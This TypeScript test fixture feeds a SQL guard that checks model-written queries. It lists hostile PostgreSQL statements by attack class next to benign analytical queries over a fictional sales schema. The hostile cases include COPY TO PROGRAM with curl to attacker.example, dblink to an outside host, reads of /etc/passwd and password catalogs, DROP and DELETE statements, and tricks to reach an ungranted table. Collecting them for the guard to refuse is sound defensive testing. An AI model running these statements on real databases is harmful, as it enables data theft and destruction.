/**
 * The SQL guard's corpus: hostile statements grouped by the attack they stand for (the
 * bypasses public text-to-SQL tools have suffered), and benign analytical queries over a
 * fictional sales schema. Used by test/unit/sql-guard.test.ts and bench/guard.ts.
 *
 * The policy grants the five sales tables; `salaries` exists in the story but is not
 * granted, so every "hidden table" case tries to reach it.
 */
import type { GuardPolicy } from "../../src/sql/types";

export const SALES_TABLES = ["customers", "products", "categories", "orders", "order_items"] as const;

export const SALES_POLICY: GuardPolicy = { allowedTables: new Set(SALES_TABLES) };

/** DDL for the benign queries to run against (plus the ungranted `salaries`). */
export const SALES_SCHEMA_SQL = `
CREATE TABLE categories (id int PRIMARY KEY, name text NOT NULL, parent_id int REFERENCES categories(id));
CREATE TABLE products (id int PRIMARY KEY, name text NOT NULL, category_id int REFERENCES categories(id), price numeric(10,2) NOT NULL, attributes jsonb NOT NULL DEFAULT '{}');
CREATE TABLE customers (id int PRIMARY KEY, name text NOT NULL, email text NOT NULL, country text, created_at timestamptz NOT NULL DEFAULT now());
CREATE TABLE orders (id int PRIMARY KEY, customer_id int NOT NULL REFERENCES customers(id), status text NOT NULL, ordered_at timestamptz NOT NULL, total numeric(12,2) NOT NULL);
CREATE TABLE order_items (order_id int NOT NULL REFERENCES orders(id), product_id int NOT NULL REFERENCES products(id), quantity int NOT NULL, unit_price numeric(10,2) NOT NULL, PRIMARY KEY (order_id, product_id));
CREATE TABLE salaries (id int PRIMARY KEY, employee text NOT NULL, amount numeric(12,2) NOT NULL);
INSERT INTO categories VALUES (1, 'Hardware', NULL), (2, 'Laptops', 1), (3, 'Accessories', 1);
INSERT INTO products VALUES (1, 'Ultrabook 13', 2, 1299.00, '{"color": "silver", "tags": ["new"]}'), (2, 'USB-C cable', 3, 19.90, '{"color": "black"}');
INSERT INTO customers VALUES (1, 'Ada', 'ada@example.com', 'UK', now() - interval '400 days'), (2, 'Linus', 'linus@example.com', 'FI', now() - interval '20 days');
INSERT INTO orders VALUES (1, 1, 'paid', now() - interval '10 days', 1318.90), (2, 2, 'pending', now() - interval '2 days', 19.90);
INSERT INTO order_items VALUES (1, 1, 1, 1299.00), (1, 2, 1, 19.90), (2, 2, 1, 19.90);
`;

export interface HostileClass {
  name: string;
  /** What a refusal of this class must mention (checked against the joined errors). */
  expect: RegExp;
  cases: string[];
}

export const HOSTILE: HostileClass[] = [
  {
    name: "multiple statements / stacked queries",
    expect: /exactly one statement is allowed/,
    cases: [
      "SELECT * FROM orders; DROP TABLE orders",
      "SELECT * FROM orders;; SELECT * FROM salaries",
      "SELECT id FROM customers; UPDATE customers SET email = 'x@evil.test'",
      "SELECT 1; COMMIT; DELETE FROM orders",
    ],
  },
  {
    name: "comment-hiding tricks",
    expect: /exactly one statement is allowed|only SELECT statements are allowed/,
    cases: [
      "SELECT 1; -- the rest is a comment, honest\nDELETE FROM orders",
      "SELECT 1 /* ; */ ; /* */ COPY orders TO '/tmp/orders.csv'",
      "/* SELECT * FROM orders */ DELETE FROM orders",
      "-- SELECT 1\nTRUNCATE orders",
      "SELECT 1 /* unterminated? no: */; DROP TABLE customers --",
    ],
  },
  {
    name: "DML",
    expect: /only SELECT statements are allowed \(got (Insert|Update|Delete|Merge)Stmt\)/,
    cases: [
      "INSERT INTO orders (id, customer_id, status, ordered_at, total) VALUES (9, 1, 'paid', now(), 0)",
      "UPDATE products SET price = 0",
      "DELETE FROM customers WHERE true",
      "MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE",
      "INSERT INTO customers SELECT * FROM customers",
    ],
  },
  {
    name: "DDL",
    expect: /only SELECT statements are allowed \(got (Drop|Create|Alter|Truncate|Grant|CreateTableAs|CreateFunction|CreateExtension|Index)\w*Stmt\)/,
    cases: [
      "DROP TABLE orders",
      "CREATE TABLE stolen AS SELECT * FROM customers",
      "ALTER TABLE customers ADD COLUMN pwned boolean",
      "TRUNCATE order_items",
      "GRANT ALL ON salaries TO PUBLIC",
      "CREATE EXTENSION dblink",
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
      "CREATE INDEX ON orders (total)",
    ],
  },
  {
    name: "data-modifying CTE",
    expect: /data-modifying statement in WITH \w+ is not allowed/,
    cases: [
      "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
      "WITH u AS (UPDATE products SET price = 0 RETURNING id) SELECT count(*) FROM u",
      "WITH i AS (INSERT INTO categories VALUES (99, 'x', NULL) RETURNING id) SELECT * FROM i",
      "SELECT * FROM (WITH d AS (DELETE FROM order_items RETURNING order_id) SELECT order_id FROM d) s",
      "WITH m AS (MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m",
    ],
  },
  {
    name: "SELECT INTO",
    expect: /SELECT INTO is not allowed/,
    cases: ["SELECT * INTO stolen FROM customers", "SELECT id, email INTO TEMP t FROM customers"],
  },
  {
    name: "locking clauses",
    expect: /locking clause FOR (UPDATE|SHARE|NO KEY UPDATE|KEY SHARE) is not allowed/,
    cases: [
      "SELECT * FROM orders FOR UPDATE",
      "SELECT * FROM orders FOR SHARE SKIP LOCKED",
      "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders FOR NO KEY UPDATE)",
      "SELECT * FROM products FOR KEY SHARE NOWAIT",
    ],
  },
  {
    name: "COPY to/from files and programs",
    expect: /only SELECT statements are allowed \(got CopyStmt\)/,
    cases: [
      "COPY orders TO '/tmp/orders.csv'",
      "COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- http://attacker.example'",
      "COPY orders FROM PROGRAM 'id'",
    ],
  },
  {
    name: "SET / RESET / set_config",
    expect: /got VariableSetStmt|function (pg_catalog\.)?(set_config|current_setting) is not allowed/,
    cases: [
      "SET statement_timeout = 0",
      "RESET ALL",
      "SET ROLE postgres",
      "SELECT set_config('statement_timeout', '0', false)",
      "SELECT current_setting('data_directory')",
      "SELECT * FROM orders WHERE set_config('transaction_read_only', 'off', true) IS NOT NULL",
    ],
  },
  {
    name: "DO / CALL",
    expect: /got (Do|Call)Stmt/,
    cases: ["DO $$ BEGIN PERFORM pg_sleep(10); END $$", "CALL refresh_everything()"],
  },
  {
    name: "PREPARE / EXECUTE",
    expect: /got (Prepare|Execute|Deallocate)Stmt/,
    cases: ["PREPARE p AS DELETE FROM orders", "EXECUTE p", "DEALLOCATE ALL"],
  },
  {
    name: "LISTEN / NOTIFY",
    expect: /got (Listen|Notify|Unlisten)Stmt|function pg_notify is not allowed/,
    cases: ["LISTEN events", "NOTIFY events, 'hello'", "UNLISTEN *", "SELECT pg_notify('events', 'hello')"],
  },
  {
    name: "transaction control",
    expect: /got TransactionStmt/,
    cases: ["BEGIN", "COMMIT", "ROLLBACK", "SAVEPOINT s1", "START TRANSACTION READ WRITE"],
  },
  {
    name: "EXPLAIN (ANALYZE)",
    expect: /got ExplainStmt/,
    cases: ["EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN ANALYZE SELECT * FROM orders", "EXPLAIN SELECT * FROM salaries"],
  },
  {
    name: "file and large-object functions",
    expect: /function (pg_catalog\.)?(pg_read_file|pg_read_binary_file|pg_ls_dir|pg_stat_file|lo_\w+) is not allowed: .*(server's files|large-object)/,
    cases: [
      "SELECT pg_read_file('/etc/passwd')",
      "SELECT pg_read_binary_file('postgresql.conf')",
      "SELECT * FROM pg_ls_dir('.') AS f",
      "SELECT pg_stat_file('pg_hba.conf')",
      "SELECT lo_import('/etc/passwd')",
      "SELECT lo_export(16384, '/tmp/out')",
      "SELECT lo_get(16384)",
    ],
  },
  {
    name: "dblink and other databases",
    expect: /function dblink\w* is not allowed: it connects to other databases|cross-database reference/,
    cases: [
      "SELECT * FROM dblink('host=attacker.example user=x', 'SELECT 1') AS t(a int)",
      "SELECT dblink_exec('dbname=postgres', 'DROP TABLE orders')",
      "SELECT dblink_connect('c', 'dbname=postgres')",
      "SELECT * FROM otherdb.public.orders",
    ],
  },
  {
    name: "sleep / denial of service",
    expect: /function (pg_catalog\.)?pg_sleep\w* is not allowed/,
    cases: [
      "SELECT pg_sleep(10)",
      "SELECT pg_sleep_for('1 hour')",
      "SELECT pg_sleep_until(now() + interval '1 day')",
      "SELECT * FROM orders WHERE pg_sleep(1) IS NULL",
    ],
  },
  {
    name: "advisory locks",
    expect: /function pg_(try_)?advisory\w* is not allowed: advisory locks/,
    cases: ["SELECT pg_advisory_lock(42)", "SELECT pg_try_advisory_xact_lock(42)", "SELECT pg_advisory_lock_shared(1, 2)"],
  },
  {
    name: "backend termination and server control",
    expect: /function (pg_terminate_backend|pg_cancel_backend|pg_reload_conf) is not allowed: it acts on other server processes/,
    cases: ["SELECT pg_terminate_backend(1234)", "SELECT pg_cancel_backend(1234)", "SELECT pg_reload_conf()"],
  },
  {
    name: "system catalogs and information_schema",
    expect: /system catalog \S+ is not allowed/,
    cases: [
      "SELECT * FROM pg_catalog.pg_class",
      "SELECT relname FROM pg_class",
      "SELECT table_name FROM information_schema.tables",
      "SELECT column_name FROM information_schema.columns WHERE table_name = 'salaries'",
      "SELECT query FROM pg_stat_activity",
      "SELECT name, setting FROM pg_settings",
      "SELECT * FROM pg_toast.pg_toast_1234",
    ],
  },
  {
    name: "password catalogs (pg_shadow / pg_authid)",
    expect: /system catalog (pg_catalog\.)?pg_(shadow|authid|user) is not allowed/,
    cases: [
      "SELECT usename, passwd FROM pg_shadow",
      "SELECT rolname, rolpassword FROM pg_authid",
      "SELECT * FROM PG_CATALOG.\"pg_authid\"",
      "SELECT * FROM pg_catalog.pg_user",
      "SELECT c.name FROM customers c JOIN pg_shadow s ON s.usename = c.name",
    ],
  },
  {
    name: "regclass and catalog-lookup casts",
    expect: /cast to reg\w+ is not allowed|function to_reg\w+ is not allowed/,
    cases: [
      "SELECT 'pg_shadow'::regclass::oid",
      "SELECT CAST('pg_authid' AS regclass)",
      "SELECT 'salaries'::regclass",
      "SELECT * FROM orders WHERE id = 'pg_sleep'::regproc::oid::int",
      "SELECT to_regclass('salaries')",
      "SELECT ARRAY['pg_shadow', 'pg_authid']::regclass[]",
    ],
  },
  {
    name: "unicode escapes and quoted identifiers",
    expect: /table (salaries|Orders) is not covered by your grants|system catalog pg_shadow is not allowed|function pg_sleep is not allowed/,
    cases: [
      'SELECT * FROM U&"s\\0061laries"',
      "SELECT * FROM U&\"!0070g_shadow\" UESCAPE '!'",
      'SELECT * FROM "salaries"',
      'SELECT * FROM public."salaries"',
      'SELECT * FROM "Orders"',
      'SELECT U&"pg\\005fsleep"(5)',
    ],
  },
  {
    name: "schema-qualified functions",
    expect: /function \w+\.\w+ is not allowed/,
    cases: [
      "SELECT pg_catalog.pg_sleep(1)",
      "SELECT pg_catalog.pg_read_file('/etc/passwd')",
      "SELECT public.sum(total) FROM orders",
      "SELECT * FROM orders WHERE evil.check_it(id)",
    ],
  },
  {
    name: "denied function hidden in a nested position",
    expect: /function (pg_catalog\.)?(pg_sleep|pg_read_file|lo_import|pg_ls_dir|dblink) is not allowed/,
    cases: [
      "SELECT (SELECT pg_sleep(1))",
      "SELECT * FROM orders ORDER BY pg_sleep(0.1)",
      "SELECT * FROM orders o, LATERAL (SELECT pg_read_file('/etc/passwd')) f",
      "SELECT CASE WHEN total > 0 THEN pg_sleep(1)::text ELSE 'x' END FROM orders",
      "SELECT make_interval(days => pg_sleep(1)::text::int)",
      "SELECT * FROM (VALUES (1, pg_sleep(1))) AS v(a, b)",
      "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders",
      "SELECT ARRAY(SELECT lo_import('/etc/passwd'))",
      "SELECT sum(total) OVER (PARTITION BY pg_sleep(1)::text) FROM orders",
      "SELECT status FROM orders GROUP BY status HAVING count(*) > (SELECT count(*) FROM pg_ls_dir('/'))",
      "SELECT * FROM JSON_TABLE(jsonb_build_object('a', pg_sleep(1)::text), '$' COLUMNS (a text PATH '$.a')) AS jt",
      "SELECT coalesce(NULL, (SELECT max(x) FROM dblink('db', 'SELECT 1') AS t(x int)))",
      "SELECT * FROM ROWS FROM (generate_series(1, 3), pg_sleep(1)) AS r(a, b)",
    ],
  },
  {
    name: "denied table hidden in a nested position",
    expect: /table (public\.|hr\.)?salaries is not covered by your grants|table hr\.salaries is not covered/,
    cases: [
      "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM salaries)",
      "WITH s AS (SELECT * FROM salaries) SELECT * FROM s",
      "SELECT name FROM customers UNION SELECT employee FROM salaries",
      "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM salaries s WHERE s.id = c.id)",
      "SELECT (SELECT max(amount) FROM salaries) AS top_pay",
      "SELECT * FROM customers c, LATERAL (SELECT amount FROM salaries s WHERE s.id = c.id) x",
      "SELECT * FROM orders JOIN salaries USING (id)",
      "SELECT coalesce((SELECT amount FROM salaries LIMIT 1), 0)",
      "SELECT * FROM orders ORDER BY (SELECT count(*) FROM salaries)",
      "SELECT * FROM (VALUES ((SELECT max(amount) FROM salaries))) AS v(x)",
      "SELECT CASE WHEN EXISTS (SELECT 1 FROM public.salaries) THEN 1 END",
      "SELECT * FROM hr.salaries",
      "SELECT * FROM salaries TABLESAMPLE BERNOULLI (50)",
      "SELECT ARRAY(SELECT amount FROM salaries)",
      "SELECT * FROM customers EXCEPT SELECT * FROM (TABLE salaries) s",
    ],
  },
  {
    name: "CTE named like a granted table, reading a denied one",
    expect: /table \w+ is not covered by your grants/,
    cases: [
      "WITH orders AS (SELECT * FROM salaries) SELECT * FROM orders",
      "WITH orders AS (SELECT o.* FROM orders o JOIN salaries s ON s.id = o.id) SELECT * FROM orders",
      "WITH salaries AS (SELECT * FROM salaries) SELECT * FROM salaries",
      "WITH customers AS (SELECT 1 AS id) SELECT * FROM public.salaries",
      "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM orders) SELECT * FROM a",
      "WITH x AS (SELECT 1) SELECT * FROM (WITH y AS (SELECT * FROM salaries) SELECT * FROM y) z",
    ],
  },
  {
    name: "query_to_xml and XML",
    expect: /function (query_to_xml|table_to_xml|cursor_to_xml|database_to_xml)\w* is not allowed|XML functions/,
    cases: [
      "SELECT query_to_xml('SELECT * FROM salaries', true, true, '')",
      "SELECT table_to_xml('salaries', true, true, '')",
      "SELECT cursor_to_xml('c', 10, true, true, '')",
      "SELECT database_to_xml(true, true, '')",
      "SELECT xmlelement(name x, (SELECT 1))",
    ],
  },
  {
    name: "sequences",
    expect: /function (nextval|setval|currval|lastval) is not allowed: sequence/,
    cases: ["SELECT nextval('orders_id_seq')", "SELECT setval('orders_id_seq', 1)", "SELECT currval('orders_id_seq')", "SELECT lastval()"],
  },
  {
    name: "server and session details",
    expect: /function \w+ is not allowed: it reveals details of the server or session/,
    cases: ["SELECT version()", "SELECT inet_server_addr()", "SELECT current_user", "SELECT current_database()", "SELECT pg_backend_pid()", "SELECT session_user"],
  },
  {
    name: "sampling methods and user-defined objects",
    expect: /TABLESAMPLE method \w+ is not allowed|function evil is not allowed|operator (public|evil)\.\S+ is not allowed|type public\.evil_type is not allowed/,
    cases: [
      "SELECT * FROM orders TABLESAMPLE system_time (100000)",
      "SELECT evil()",
      "SELECT 1 OPERATOR(public.+) 1",
      "SELECT * FROM orders WHERE id OPERATOR(public.=) ANY (SELECT order_id FROM order_items)",
      "SELECT * FROM orders ORDER BY total USING OPERATOR(evil.<)",
      "SELECT '1'::public.evil_type",
    ],
  },
];

export interface BenignQuery {
  name: string;
  sql: string;
  /** Tables the guard must report. */
  tables: string[];
  /** Lowest PostgreSQL major version that runs it (JSON_TABLE is 17+); default 15. */
  minVersion?: number;
}

export const BENIGN: BenignQuery[] = [
  {
    name: "join with aggregate and FILTER",
    sql: `SELECT c.name, count(*) AS orders, sum(o.total) FILTER (WHERE o.status = 'paid') AS paid_total
          FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.name ORDER BY paid_total DESC NULLS LAST`,
    tables: ["customers", "orders"],
  },
  {
    name: "window functions: rank and running total",
    sql: `SELECT id, customer_id, total,
                 rank() OVER (PARTITION BY customer_id ORDER BY total DESC) AS rnk,
                 sum(total) OVER (ORDER BY ordered_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running
          FROM orders`,
    tables: ["orders"],
  },
  {
    name: "named window with lag/lead",
    sql: `SELECT id, total, lag(total) OVER w AS prev, lead(total, 1, 0) OVER w AS next FROM orders WINDOW w AS (ORDER BY ordered_at)`,
    tables: ["orders"],
  },
  {
    name: "CTE chain",
    sql: `WITH revenue AS (SELECT product_id, sum(quantity * unit_price) AS amount FROM order_items GROUP BY product_id),
               ranked AS (SELECT product_id, amount, dense_rank() OVER (ORDER BY amount DESC) AS r FROM revenue)
          SELECT p.name, r.amount FROM ranked r JOIN products p ON p.id = r.product_id WHERE r.r <= 10`,
    tables: ["order_items", "products"],
  },
  {
    name: "recursive CTE over the category tree",
    sql: `WITH RECURSIVE tree AS (
            SELECT id, name, parent_id, 1 AS depth, name::text AS path FROM categories WHERE parent_id IS NULL
            UNION ALL
            SELECT c.id, c.name, c.parent_id, t.depth + 1, t.path || ' > ' || c.name FROM categories c JOIN tree t ON c.parent_id = t.id)
          SELECT * FROM tree ORDER BY path`,
    tables: ["categories"],
  },
  {
    name: "GROUPING SETS",
    sql: `SELECT c.country, o.status, count(*), grouping(c.country, o.status) AS g
          FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY GROUPING SETS ((c.country, o.status), (c.country), ())`,
    tables: ["orders", "customers"],
  },
  {
    name: "ROLLUP and CUBE",
    sql: `SELECT cat.name, p.name, sum(oi.quantity) FROM order_items oi JOIN products p ON p.id = oi.product_id
          JOIN categories cat ON cat.id = p.category_id GROUP BY ROLLUP (cat.name, p.name)
          UNION ALL
          SELECT NULL, p.name, sum(oi.quantity) FROM order_items oi JOIN products p ON p.id = oi.product_id GROUP BY CUBE (p.name)`,
    tables: ["order_items", "products", "categories"],
  },
  {
    name: "correlated and IN subqueries",
    sql: `SELECT name, (SELECT max(total) FROM orders o WHERE o.customer_id = c.id) AS biggest FROM customers c
          WHERE id IN (SELECT customer_id FROM orders WHERE status = 'paid') AND NOT EXISTS (SELECT 1 FROM orders o2 WHERE o2.customer_id = c.id AND o2.total < 0)`,
    tables: ["customers", "orders"],
  },
  {
    name: "CASE buckets",
    sql: `SELECT CASE WHEN total >= 1000 THEN 'large' WHEN total >= 100 THEN 'medium' ELSE 'small' END AS bucket, count(*)
          FROM orders GROUP BY 1 ORDER BY 2 DESC`,
    tables: ["orders"],
  },
  {
    name: "date_trunc, extract and interval arithmetic",
    sql: `SELECT date_trunc('month', ordered_at) AS month, extract(year FROM ordered_at) AS y, count(*), avg(total)
          FROM orders WHERE ordered_at >= now() - interval '12 months' AND ordered_at < CURRENT_DATE + 1
          GROUP BY 1, 2 ORDER BY 1`,
    tables: ["orders"],
  },
  {
    name: "COALESCE, NULLIF, GREATEST",
    sql: `SELECT c.name, COALESCE(c.country, 'unknown') AS country, NULLIF(c.email, '') AS email,
                 GREATEST(0, LEAST(100, (SELECT count(*) FROM orders o WHERE o.customer_id = c.id))) AS capped
          FROM customers c`,
    tables: ["customers", "orders"],
  },
  {
    name: "string functions",
    sql: `SELECT upper(left(name, 3)) || '-' || lpad(id::text, 5, '0') AS code, lower(email), split_part(email, '@', 2) AS domain,
                 initcap(name), length(name), replace(name, ' ', '_'), regexp_replace(email, '@.*$', ''), trim(both ' ' FROM name),
                 position('@' IN email), substring(email FROM 1 FOR 3), concat_ws(', ', name, country)
          FROM customers WHERE name ILIKE 'a%' OR email SIMILAR TO '%(example)%'`,
    tables: ["customers"],
  },
  {
    name: "DISTINCT ON latest order per customer",
    sql: `SELECT DISTINCT ON (customer_id) customer_id, id, ordered_at, total FROM orders ORDER BY customer_id, ordered_at DESC`,
    tables: ["orders"],
  },
  {
    name: "LIMIT/OFFSET and FETCH FIRST",
    sql: `SELECT id, name, price FROM products ORDER BY price DESC LIMIT 10 OFFSET 5`,
    tables: ["products"],
  },
  {
    name: "FETCH FIRST WITH TIES",
    sql: `SELECT id, total FROM orders ORDER BY total DESC FETCH FIRST 3 ROWS WITH TIES`,
    tables: ["orders"],
  },
  {
    name: "set operations",
    sql: `(SELECT customer_id FROM orders WHERE status = 'paid' INTERSECT SELECT id FROM customers WHERE country = 'UK')
          EXCEPT SELECT customer_id FROM orders WHERE status = 'refunded'`,
    tables: ["orders", "customers"],
  },
  {
    name: "VALUES in FROM as a lookup",
    sql: `SELECT o.id, s.label FROM orders o JOIN (VALUES ('paid', 'Paid'), ('pending', 'Waiting')) AS s(code, label) ON s.code = o.status`,
    tables: ["orders"],
  },
  {
    name: "percentiles within group",
    sql: `SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) AS median, percentile_disc(0.9) WITHIN GROUP (ORDER BY total) AS p90,
                 mode() WITHIN GROUP (ORDER BY status) AS common_status, stddev_samp(total) FROM orders`,
    tables: ["orders"],
  },
  {
    name: "LATERAL top-N per customer",
    sql: `SELECT c.name, top.id, top.total FROM customers c
          CROSS JOIN LATERAL (SELECT id, total FROM orders o WHERE o.customer_id = c.id ORDER BY total DESC LIMIT 3) AS top`,
    tables: ["customers", "orders"],
  },
  {
    name: "generate_series calendar with left join",
    sql: `SELECT d::date AS day, count(o.id) FROM generate_series(CURRENT_DATE - 30, CURRENT_DATE, interval '1 day') AS d
          LEFT JOIN orders o ON o.ordered_at::date = d::date GROUP BY 1 ORDER BY 1`,
    tables: ["orders"],
  },
  {
    name: "string_agg and array_agg with ORDER BY",
    sql: `SELECT o.id, string_agg(p.name, ', ' ORDER BY p.name) AS items, array_agg(DISTINCT p.category_id) AS cats
          FROM orders o JOIN order_items oi ON oi.order_id = o.id JOIN products p ON p.id = oi.product_id GROUP BY o.id`,
    tables: ["orders", "order_items", "products"],
  },
  {
    name: "JSON accessors",
    sql: `SELECT name, attributes->>'color' AS color, jsonb_array_length(coalesce(attributes->'tags', '[]'::jsonb)) AS tags,
                 jsonb_build_object('id', id, 'price', price) AS doc FROM products WHERE attributes ? 'color'`,
    tables: ["products"],
  },
  {
    name: "schema-qualified public table and pg_catalog aggregate",
    sql: `SELECT pg_catalog.sum(o.total), pg_catalog.count(*) FROM public.orders o WHERE o.total IS DISTINCT FROM 0`,
    tables: ["orders"],
  },
  {
    name: "CTE shadowing a granted table with a granted body",
    sql: `WITH orders AS MATERIALIZED (SELECT * FROM orders WHERE status = 'paid') SELECT count(*) FROM orders`,
    tables: ["orders"],
  },
  {
    name: "to_char, AT TIME ZONE, age and casts",
    sql: `SELECT to_char(ordered_at AT TIME ZONE 'UTC', 'YYYY-MM') AS ym, age(now(), min(ordered_at)) AS span,
                 round(avg(total)::numeric, 2), CAST(count(*) AS bigint) FROM orders GROUP BY 1`,
    tables: ["orders"],
  },
  {
    name: "BETWEEN, IN list and boolean tests",
    sql: `SELECT * FROM orders WHERE total BETWEEN 10 AND 2000 AND status IN ('paid', 'pending') AND (total > 0) IS TRUE AND customer_id IS NOT NULL`,
    tables: ["orders"],
  },
  {
    name: "ARRAY subquery and row comparison",
    sql: `SELECT c.id, ARRAY(SELECT o.id FROM orders o WHERE o.customer_id = c.id ORDER BY o.id) AS order_ids
          FROM customers c WHERE (c.id, c.country) <> (0, 'XX')`,
    tables: ["customers", "orders"],
  },
  {
    name: "TABLESAMPLE BERNOULLI on a granted table",
    sql: `SELECT count(*) FROM order_items TABLESAMPLE BERNOULLI (50) REPEATABLE (42)`,
    tables: ["order_items"],
  },
  {
    name: "JSON_TABLE over product attributes",
    sql: `SELECT p.id, jt.color FROM products p, JSON_TABLE(p.attributes, '$' COLUMNS (color text PATH '$.color')) AS jt`,
    tables: ["products"],
    minVersion: 17,
  },
];

/**
 * Large queries for the benchmark: wide, deep and long, the shapes a model produces for
 * dashboards (many CTEs, many CASE arms, long IN lists).
 */
export function largeQueries(): Array<{ name: string; sql: string }> {
  const ctes = Array.from({ length: 20 }, (_, i) =>
    `m${i} AS (SELECT date_trunc('month', o.ordered_at) AS month, c.country, sum(oi.quantity * oi.unit_price) AS revenue_${i}
       FROM orders o JOIN order_items oi ON oi.order_id = o.id JOIN customers c ON c.id = o.customer_id
       WHERE o.status = 'paid' AND o.total > ${i * 10} GROUP BY 1, 2)`,
  ).join(",\n");
  const joins = Array.from({ length: 19 }, (_, i) => `LEFT JOIN m${i + 1} USING (month, country)`).join("\n");
  const manyCtes = `WITH ${ctes}\nSELECT * FROM m0 ${joins} ORDER BY month, country LIMIT 1000`;

  const arms = Array.from({ length: 150 }, (_, i) => `WHEN p.price < ${(i + 1) * 10} THEN 'band ${i}'`).join(" ");
  const wideCase = `SELECT p.id, CASE ${arms} ELSE 'top' END AS band, ${Array.from({ length: 60 }, (_, i) => `round(p.price * ${i + 1}, 2) AS x${i}`).join(", ")} FROM products p`;

  const inList = `SELECT * FROM orders WHERE id IN (${Array.from({ length: 2000 }, (_, i) => i + 1).join(", ")}) AND customer_id IN (SELECT id FROM customers)`;

  let nested = "SELECT id FROM orders";
  for (let i = 0; i < 25; i++) nested = `SELECT id FROM orders WHERE id IN (${nested})`;

  return [
    { name: "20 CTEs joined", sql: manyCtes },
    { name: "150-arm CASE, 60 columns", sql: wideCase },
    { name: "IN list of 2,000", sql: inList },
    { name: "25 nested subqueries", sql: nested },
  ];
}
